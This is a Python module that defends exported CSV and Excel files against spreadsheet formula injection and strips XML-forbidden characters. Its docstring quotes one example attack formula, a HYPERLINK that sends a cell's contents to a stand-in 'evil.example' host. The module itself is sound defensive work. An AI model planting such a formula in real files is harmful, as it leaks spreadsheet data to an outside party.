"""Text that goes into files people open: spreadsheets, CSV, Word.

Two dangers, each handled here once for every file the app writes:

- Spreadsheet formulas (OWASP "CSV injection"): a text cell starting with ``=``, ``+``, ``-``,
  ``@``, a tab or a carriage return may run as a formula when the file is opened, e.g.
  ``=HYPERLINK("http://evil.example/?leak="&A1,"Klik")``. In Excel files such a cell is written
  as a text cell with Excel's quote prefix (it shows and re-imports unchanged, and stays text
  when edited); in CSV the cell gets a leading apostrophe, as OWASP advises.
- Characters XML 1.0 forbids (C0 controls other than tab, newline and carriage return, lone
  surrogates, U+FFFE and U+FFFF): openpyxl and python-docx refuse them with an exception, so
  one such character in a plan text would break the download for everyone. Vertical tab and
  form feed become a newline (that is what they meant); the rest are dropped.
"""

from __future__ import annotations

import csv
import dataclasses
import io
import re
from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?\d[\d.,]*(?:[eE][+-]?\d+)?")
_AS_NEWLINE = str.maketrans({"\x0b": "\n", "\x0c": "\n"})
_XML_FORBIDDEN = re.compile("[\x00-\x08\x0e-\x1f\ud800-\udfff\ufffe\uffff]")


def xml_safe(text: str) -> str:
    """`text` without the characters XML 1.0 cannot hold (VT and FF become newlines)."""
    return _XML_FORBIDDEN.sub("", text.translate(_AS_NEWLINE))


def xml_safe_record(value: Any) -> Any:
    """A copy of a record (dataclasses, lists, tuples, dicts) with every text made `xml_safe`;
    for documents built from plain records, such as a plan's PDF, Word and Excel files."""
    if isinstance(value, str):
        return xml_safe(value)
    if dataclasses.is_dataclass(value) and not isinstance(value, type):
        changes = {f.name: xml_safe_record(getattr(value, f.name)) for f in dataclasses.fields(value)
                   if f.init}
        return dataclasses.replace(value, **changes)
    if isinstance(value, list | tuple):
        return type(value)(xml_safe_record(v) for v in value)
    if isinstance(value, dict):
        return {k: xml_safe_record(v) for k, v in value.items()}
    return value


def is_formula_like(text: str) -> bool:
    """Would a spreadsheet read this text cell as a formula? Plain numbers such as "-3,5" are
    data, not formulas, and so is a lone "-"."""
    return text.startswith(FORMULA_STARTS) and text != "-" and not _NUMBER.fullmatch(text)


def csv_cell(value: Any) -> Any:
    """A value for a CSV cell: formula-like text gets a leading apostrophe; None is empty."""
    if value is None:
        return ""
    if isinstance(value, str):
        value = xml_safe(value)
        return "'" + value if is_formula_like(value) else value
    return value


def danish_csv_cell(value: Any) -> Any:
    """A value for a CSV that Danish Excel opens as it is: decimal comma, "ja"/"nej"."""
    if isinstance(value, bool):
        return "ja" if value else "nej"
    if isinstance(value, float):
        return "" if value != value else repr(value).replace(".", ",")
    return csv_cell(value)


def csv_bytes(header: Iterable[Any] | None, rows: Iterable[Iterable[Any]], *, bom: bool = True,
              delimiter: str = ",", danish: bool = False) -> bytes:
    """A whole CSV file (UTF-8, with a BOM so Excel reads æøå) with every cell made safe.
    `danish`: the form Danish Excel opens by double-click: ';' between cells, decimal comma,
    "ja"/"nej" (the plain form is comma-separated with a decimal point, for programs)."""
    out = io.StringIO()
    cell = danish_csv_cell if danish else csv_cell
    writer = csv.writer(out, delimiter=";" if danish else delimiter)
    if header is not None:
        writer.writerow([csv_cell(v) for v in header])
    writer.writerows([cell(v) for v in row] for row in rows)
    return (("\ufeff" if bom else "") + out.getvalue()).encode("utf-8")


def csv_line(row: Iterable[Any], delimiter: str = ",") -> str:
    """One CSV line with every cell made safe (for streamed downloads)."""
    out = io.StringIO()
    csv.writer(out, delimiter=delimiter).writerow([csv_cell(v) for v in row])
    return out.getvalue()


def cell_value(value: Any) -> Any:
    """A value for an Excel cell: text without XML-forbidden characters, the rest unchanged."""
    return xml_safe(value) if isinstance(value, str) else value


def set_cell(sheet, row: int, column: int, value: Any):
    """sheet.cell(row, column, value) with the value made safe; returns the cell."""
    cell = sheet.cell(row, column, cell_value(value))
    protect_cell(cell)
    return cell


def append_row(sheet, values: Iterable[Any]) -> None:
    """sheet.append(values) with every value made safe."""
    sheet.append([cell_value(v) for v in values])
    for cell in sheet[sheet.max_row]:
        protect_cell(cell)


def protect_cell(cell) -> None:
    """Formula-like text stays text: a string cell with Excel's quote prefix."""
    value = cell.value
    if isinstance(value, str) and (cell.data_type == "f" or is_formula_like(value)):
        cell.data_type = "s"
        cell.quotePrefix = True


def workbook_bytes(book) -> bytes:
    """Save an openpyxl workbook after a last pass that leaves no formula in any cell (the app
    writes values only, so any formula came from someone's text)."""
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                protect_cell(cell)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()
